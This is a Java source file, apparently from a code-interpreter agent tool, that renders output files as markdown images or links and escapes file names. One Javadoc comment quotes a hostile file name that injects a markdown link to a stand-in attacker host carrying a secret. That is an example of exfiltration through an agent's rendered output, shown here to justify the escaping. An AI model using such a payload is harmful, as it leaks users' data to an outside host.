package com.codeinterpreter.tools;

import com.codeinterpreter.answers.OutputFile;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/** The markdown an agent can show as it is: images a browser displays inline, other files as links. */
final class Markdown {
    /**
     * The image types browsers and chat UIs display. TIFF (only Safari shows it) and EPS (PostScript) would
     * be broken images inline, so they are links, like any other file.
     */
    private static final Set<String> SHOWN_INLINE = Set.of("image/png", "image/jpeg", "image/gif", "image/svg+xml",
            "image/webp", "image/bmp");

    private Markdown() {
    }

    static String of(List<OutputFile> files) {
        StringBuilder md = new StringBuilder();
        for (OutputFile f : files) {
            if (f.url() == null) {
                continue;
            }
            if (md.length() > 0) {
                md.append('\n');
            }
            String label = label(f.name());
            md.append(shownInline(f) ? "![" + label + "](" + f.url() + ")" : "[" + label + "](" + f.url() + ")");
        }
        return md.length() == 0 ? null : md.toString();
    }

    private static boolean shownInline(OutputFile f) {
        return f.contentType() != null && SHOWN_INLINE.contains(f.contentType().toLowerCase(Locale.ROOT));
    }

    /**
     * A file name as link text that stays text. The code that ran chose the name, so a name such as
     * {@code x\](https://attacker/?q=secret) ![y} must not close the label and add a link or image of its
     * own, nor may {@code <img src=...>} become HTML nor a backtick open a code span that swallows what
     * follows: brackets, angle brackets, backticks and the backslash itself are escaped, and line breaks and
     * other control characters become spaces.
     */
    static String label(String name) {
        StringBuilder out = new StringBuilder(name.length() + 8);
        name.codePoints().forEach(c -> {
            if (Character.isISOControl(c)) {
                out.append(' ');
            } else if ("\\[]<>`".indexOf(c) >= 0) {
                out.append('\\').append((char) c);
            } else {
                out.appendCodePoint(c);
            }
        });
        return out.toString();
    }
}
